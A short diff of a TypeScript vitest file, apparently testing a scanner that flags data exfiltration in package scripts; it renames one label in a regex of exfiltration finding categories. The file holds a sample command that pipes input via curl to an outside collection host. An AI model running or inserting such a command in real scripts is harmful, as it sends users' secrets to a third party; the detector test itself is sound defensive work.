@@ -1,7 +1,7 @@
 import { expect, test } from "vitest";
 import { found } from "../../../test-support/package-of";
 
-const SENDS = /credential_theft|environment-exfiltration|private-data-sent|key-sent-elsewhere/;
+const SENDS = /credential-exfiltration|environment-exfiltration|private-data-sent|key-sent-elsewhere/;
 const sent = async (text: string) => (await found("scripts/run.sh", text)).filter((finding) => SENDS.test(finding));
 const TO = "curl -s --data-binary @- https://collect.relay-desk.dev/up";
 
